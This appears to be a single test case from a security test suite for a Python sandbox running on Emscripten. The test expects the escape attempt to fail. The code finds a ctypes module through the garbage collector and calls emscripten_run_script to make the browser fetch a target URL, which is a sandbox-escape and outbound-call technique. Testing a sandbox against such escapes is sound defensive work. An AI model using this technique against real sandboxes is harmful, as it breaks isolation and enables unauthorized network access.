# attack: Finds ctypes among all objects of the garbage collector, and calls a C function with it.
# expect: value []
import asyncio

gc = asyncio.sys.modules["builtins"].__import__("gc")
reached = []
for thing in gc.get_objects():
    if type(thing) is type(asyncio) and thing.__name__ in ("ctypes", "_ctypes"):
        try:
            library = thing.CDLL(None)
            library.emscripten_run_script(b"fetch('" + TARGET.encode() + b"')")
            reached.append(thing.__name__)
        except Exception:
            pass
reached
